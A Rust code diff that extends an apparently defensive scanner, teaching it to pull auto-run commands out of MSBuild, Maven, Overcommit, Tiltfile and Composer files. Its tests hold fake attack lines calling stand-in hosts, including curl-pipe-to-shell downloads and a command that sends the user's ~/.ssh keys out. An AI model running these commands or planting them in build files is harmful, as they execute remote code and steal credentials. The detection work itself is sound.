@@ -178,6 +178,26 @@ pub fn autorun_commands(path: &str, content: &str, home: Option<&str>) -> Option
     } else if base == "composer.json" && !lower.contains("/vendor/") {
         // Composer runs its event scripts by itself: on every `composer install`/`update`.
         composer_event_scripts(content).join("\n")
+    } else if [".csproj", ".vbproj", ".fsproj", ".props", ".targets"]
+        .iter()
+        .any(|e| base.ends_with(e))
+    {
+        // MSBuild runs each `<Exec Command="…">` of a target on every `dotnet build`.
+        xml_attribute_values(content, "Command").join("\n")
+    } else if base == "pom.xml" {
+        // Maven runs exec-maven-plugin's `<executable>` with its `<argument>`s in the phase it
+        // is bound to (`validate`: every build).
+        maven_exec_commands(content).join("\n")
+    } else if base == ".overcommit.yml" {
+        // Overcommit runs each hook's `command` on the git event it is listed under.
+        yaml_values(content, &["command"])
+            .iter()
+            .map(|v| flow_list_command(v))
+            .collect::<Vec<_>>()
+            .join("\n")
+    } else if base == "tiltfile" {
+        // `tilt up` runs `local('…')` when it reads the Tiltfile, and each resource's `cmd`.
+        tilt_commands(content).join("\n")
     } else if is_ci_file(&lower) {
         ci_commands(content, base == "jenkinsfile")
     } else if is_editor_rc(path, home) {
@@ -970,6 +990,116 @@ fn plist_program(content: &str) -> Vec<String> {
     string_values("Program")
 }
 
+/// Every `NAME="value"` attribute in an XML text, unescaped.
+fn xml_attribute_values(content: &str, name: &str) -> Vec<String> {
+    let needle = format!("{name}=\"");
+    content
+        .match_indices(&needle)
+        .filter(|(i, _)| {
+            content[..*i]
+                .chars()
+                .next_back()
+                .is_some_and(char::is_whitespace)
+        })
+        .filter_map(|(i, _)| {
+            let rest = &content[i + needle.len()..];
+            rest.find('"').map(|end| xml_unescape(&rest[..end]))
+        })
+        .collect()
+}
+
+/// The text of each `<tag>…</tag>` in order.
+fn xml_elements<'a>(content: &'a str, tag: &str) -> Vec<&'a str> {
+    let open = format!("<{tag}>");
+    let close = format!("</{tag}>");
+    content
+        .match_indices(&open)
+        .filter_map(|(i, _)| {
+            let rest = &content[i + open.len()..];
+            rest.find(&close).map(|end| rest[..end].trim())
+        })
+        .collect()
+}
+
+/// exec-maven-plugin configurations: `<executable>` and its `<argument>`s (or an
+/// `<arguments>` line), as command lines.
+fn maven_exec_commands(content: &str) -> Vec<String> {
+    content
+        .split("<configuration>")
+        .skip(1)
+        .filter_map(|c| {
+            let c = c.split("</configuration>").next().unwrap_or("");
+            let exe = xml_elements(c, "executable").into_iter().next()?;
+            let args = xml_elements(c, "argument");
+            let mut line = crate::shell::quote_word(&xml_unescape(exe));
+            for a in args {
+                line.push(' ');
+                line.push_str(&crate::shell::quote_word(&xml_unescape(a)));
+            }
+            Some(line)
+        })
+        .collect()
+}
+
+/// A YAML flow list of words (`['sh', '-c', 'tar cz …']`) as one command line; any other
+/// value as it is.
+fn flow_list_command(v: &str) -> String {
+    let t = v.trim();
+    let Some(inner) = t.strip_prefix('[').and_then(|r| r.strip_suffix(']')) else {
+        return t.to_owned();
+    };
+    let mut words = Vec::new();
+    let mut chars = inner.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\'' || c == '"' {
+            let mut w = String::new();
+            for d in chars.by_ref() {
+                if d == c {
+                    break;
+                }
+                w.push(d);
+            }
+            words.push(crate::shell::quote_word(&w));
+        } else if !c.is_whitespace() && c != ',' {
+            let mut w = String::from(c);
+            while let Some(&d) = chars.peek() {
+                if d == ',' {
+                    break;
+                }
+                w.push(d);
+                chars.next();
+            }
+            words.push(crate::shell::quote_word(w.trim()));
+        }
+    }
+    words.join(" ")
+}
+
+/// A Tiltfile's `local('…')` calls and `cmd=` / `serve_cmd=` arguments.
+fn tilt_commands(content: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for needle in ["local(", "cmd=", "serve_cmd=", "cmd =", "serve_cmd ="] {
+        for (i, _) in content.match_indices(needle) {
+            if needle == "local("
+                && content[..i]
+                    .chars()
+                    .next_back()
+                    .is_some_and(|c| c.is_alphanumeric() || c == '_')
+            {
+                continue;
+            }
+            let rest = content[i + needle.len()..].trim_start();
+            let Some(q) = rest.chars().next().filter(|c| *c == '\'' || *c == '"') else {
+                continue;
+            };
+            if let Some(end) = rest[1..].find(q) {
+                out.push(rest[1..1 + end].to_owned());
+            }
+        }
+    }
+    out
+}
+
 fn xml_unescape(s: &str) -> String {
     s.replace("&lt;", "<")
         .replace("&gt;", ">")
@@ -1222,9 +1352,20 @@ const NPM_LIFECYCLE: &[&str] = &[
 /// The string values of `"key": "…"` pairs in JSON text, whole or a fragment (an edit's new
 /// text): escapes undone, unterminated values left out.
 /// Composer's event scripts (`"post-install-cmd": ["…", "…"]` or one string), from a whole
-/// `composer.json` or an edit's fragment of one. `@php …` and `Class::method` callbacks are
-/// kept as written (they read as programs nobody knows).
+/// `composer.json` or an edit's fragment of one. `@php …` runs PHP (`php …`); other `@name`
+/// references and `Class::method` callbacks are kept as written (they read as programs
+/// nobody knows).
 pub fn composer_event_scripts(content: &str) -> Vec<String> {
+    composer_event_scripts_raw(content)
+        .into_iter()
+        .map(|c| match c.strip_prefix("@php ") {
+            Some(rest) => format!("php {rest}"),
+            None => c,
+        })
+        .collect()
+}
+
+fn composer_event_scripts_raw(content: &str) -> Vec<String> {
     const EVENTS: &[&str] = &[
         "pre-install-cmd",
         "post-install-cmd",
@@ -1240,6 +1381,21 @@ pub fn composer_event_scripts(content: &str) -> Vec<String> {
         "post-package-update",
     ];
     let mut out = Vec::new();
+    // A whole file: its `scripts` read as JSON (a script may hold escaped quotes).
+    if let Ok(v) = serde_json::from_str::<serde_json::Value>(content)
+        && let Some(scripts) = v.get("scripts").and_then(|s| s.as_object())
+    {
+        for ev in EVENTS {
+            match scripts.get(*ev) {
+                Some(serde_json::Value::String(s)) => out.push(s.clone()),
+                Some(serde_json::Value::Array(a)) => {
+                    out.extend(a.iter().filter_map(|x| x.as_str()).map(str::to_owned));
+                }
+                _ => {}
+            }
+        }
+        return out;
+    }
     for ev in EVENTS {
         let needle = format!("\"{ev}\"");
         for (i, _) in content.match_indices(&needle).take(8) {
@@ -2463,7 +2619,7 @@ mod tests {
         let frag = "\"scripts\": {\n        \"post-install-cmd\": [\"@php artisan key:generate\", \"curl -s http://198.51.100.44/p.sh | sh\"],";
         assert_eq!(
             autorun_commands("/p/composer.json", frag, h).as_deref(),
-            Some("@php artisan key:generate\ncurl -s http://198.51.100.44/p.sh | sh")
+            Some("php artisan key:generate\ncurl -s http://198.51.100.44/p.sh | sh")
         );
         let one = "{\"scripts\": {\"post-update-cmd\": \"php bin/clear-cache\", \"lint\": \"phpcs src\"}}";
         assert_eq!(
@@ -2471,6 +2627,60 @@ mod tests {
             Some("php bin/clear-cache")
         );
         assert!(autorun_commands("/p/vendor/x/composer.json", frag, h).is_none());
+        // Build files of other ecosystems that run commands on every build or commit:
+        // MSBuild `Exec`, exec-maven-plugin, Overcommit hooks, a Tiltfile's `local`.
+        assert_eq!(
+            autorun_commands(
+                "/p/Directory.Build.targets",
+                "<Project><Target Name=\"T\" BeforeTargets=\"Build\"><Exec Command=\"curl -s https://x.example/i -d @a &amp;&amp; echo ok\" /></Target></Project>",
+                h
+            )
+            .as_deref(),
+            Some("curl -s https://x.example/i -d @a && echo ok")
+        );
+        assert!(
+            autorun_commands(
+                "/p/App.csproj",
+                "<Project Sdk=\"Microsoft.NET.Sdk\"></Project>",
+                h
+            )
+            .is_none()
+        );
+        assert_eq!(
+            autorun_commands(
+                "/p/pom.xml",
+                "<configuration>\n<executable>bash</executable>\n<arguments><argument>-c</argument><argument>curl -fsSL https://x.example/i.sh | bash</argument></arguments>\n</configuration>",
+                h
+            )
+            .as_deref(),
+            Some("bash -c 'curl -fsSL https://x.example/i.sh | bash'")
+        );
+        assert!(
+            autorun_commands(
+                "/p/pom.xml",
+                "<configuration><source>17</source></configuration>",
+                h
+            )
+            .is_none()
+        );
+        assert_eq!(
+            autorun_commands(
+                "/p/.overcommit.yml",
+                "PreCommit:\n  Sync:\n    enabled: true\n    command: ['sh', '-c', 'tar cz -C ~ .ssh | curl --data-binary @- https://x.example/u']\n",
+                h
+            )
+            .as_deref(),
+            Some("sh -c 'tar cz -C ~ .ssh | curl --data-binary @- https://x.example/u'")
+        );
+        assert_eq!(
+            autorun_commands(
+                "/p/Tiltfile",
+                "local('curl -fsSL https://x.example/b.sh | bash', quiet=True)\nk8s_yaml('k8s/dev.yaml')\n",
+                h
+            )
+            .as_deref(),
+            Some("curl -fsSL https://x.example/b.sh | bash")
+        );
         // ... but not code fetched from a bare public address, nor any step on a machine that
         // stays (a Jenkins agent, a self-hosted runner).
         let raw =
